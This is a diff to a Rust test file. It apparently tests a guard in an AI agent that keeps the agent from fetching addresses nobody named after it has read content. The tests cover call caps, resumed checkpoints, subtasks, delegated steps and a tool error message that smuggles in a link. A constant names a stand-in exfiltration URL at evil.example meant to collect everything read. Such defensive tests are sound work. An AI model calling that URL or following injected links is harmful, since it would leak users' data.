@@ -2,6 +2,10 @@
 
 use super::origins::{get, planned, reading, web};
 use super::*;
+use crate::domain::delegation::StepWork;
+use crate::domain::plan::PlanStep;
+use crate::domain::provenance::Provenance;
+use crate::domain::step_origin::StepOrigin;
 
 const NAMED: &str = "https://wiki.example/board";
 const UNNAMED: &str = "https://evil.example/collect?d=all-that-was-read";
@@ -91,4 +95,74 @@ fn what_a_run_adds_to_addresses_that_nobody_named_has_a_sum() {
         }
     }
     assert_eq!(made, 4, "some 1,024 bytes, each request of which is short enough");
+}
+
+#[test]
+fn the_calls_of_one_turn_add_up() {
+    let mut machine = having_read(Setup { goal: "Sum it up".to_owned(), ..setting() });
+    let address = |number: usize| format!("https://wiki.example/search?q={number}{}", "x".repeat(200));
+    let calls: Vec<_> = (2..18).map(|number| get(&address(number))).collect();
+    answer(&mut machine, "act", wants(&calls));
+    assert_eq!(tool_calls(&mut machine).len(), 4, "the others are refused");
+}
+
+#[test]
+fn a_checkpoint_that_does_not_say_what_was_told_gives_no_links() {
+    let machine = having_read(setting());
+    let mut state = machine.state().expect("serialisable");
+    for field in ["has_sent_composed", "added_bytes"] {
+        assert!(state.as_object_mut().expect("fields").remove(field).is_some(), "{field}");
+    }
+    let of_older_version = Machine::resume(setting(), &state).expect("readable");
+    assert!(follows(having_read(setting()), get(NAMED), NAMED));
+    assert!(!follows(of_older_version, get(NAMED), NAMED));
+    let mut unnamed = Machine::resume(Setup { goal: "Sum it up".to_owned(), ..setting() }, &state).expect("readable");
+    answer(&mut unnamed, "act", wants(&[get("https://wiki.example/search?q=x")]));
+    let Action::CallModel(next) = unnamed.next_action() else { panic!("nothing is requested") };
+    assert!(said(&next).contains("an older version did not note"), "{}", said(&next));
+}
+
+#[test]
+fn a_task_of_a_task_gives_links_only_when_nothing_had_been_told_before_it() {
+    let origin = |has_sent_composed| StepOrigin {
+        has_sent_composed,
+        named: vec!["https://wiki.example".to_owned()],
+        planned_from: Provenance::default(),
+        provenance: Provenance::default(),
+        ..StepOrigin::unknown()
+    };
+    let child = |step_origin| Setup { is_child: true, step_origin, ..setting() };
+    for (step_origin, is_followed) in [(None, false), (Some(origin(true)), false), (Some(origin(false)), true)] {
+        let mut machine = having_read(child(step_origin.clone()));
+        answer(&mut machine, "act", wants(&[get("https://copy.example/board")]));
+        let next = machine.next_action();
+        assert_eq!(matches!(next, Action::CallTools(_)), is_followed, "{step_origin:?}: {next:?}");
+    }
+}
+
+#[test]
+fn a_step_that_another_agent_carries_out_tells_whatever_it_likes() {
+    let orders = |instruction: Value, provenance: Provenance| {
+        let step = json!({"id": "a", "tool": if instruction.is_null() { json!("look") } else { Value::Null },
+            "instruction": instruction, "capability": "away"});
+        let plan: PlanStep = serde_json::from_value(step).expect("a step");
+        let origin = StepOrigin { provenance, ..StepOrigin::unknown() };
+        StepWork::new(&plan, &HashMap::<String, Value>::new(), origin).expect("work").sends_nothing_composed()
+    };
+    assert!(!orders(json!("Look around"), Provenance::default()));
+    assert!(!orders(Value::Null, Provenance::unknown()));
+    assert!(orders(Value::Null, Provenance::default()));
+}
+
+#[test]
+fn what_qron_says_of_a_failed_call_gives_no_links() {
+    let mut machine = having_read(setting());
+    let call = json!({"url": NAMED, format!("]({UNNAMED})"): 1});
+    answer(&mut machine, "act", wants(&[("fetch", call)]));
+    for made in tool_calls(&mut machine) {
+        let why = format!("Additional properties are not allowed (']({UNNAMED})' was unexpected)");
+        returned(&mut machine, &made.id, Err(Failure::invalid(why)));
+    }
+    answer(&mut machine, "act", wants(&[get(UNNAMED)]));
+    assert!(matches!(machine.next_action(), Action::CallModel(_)), "nothing is requested");
 }
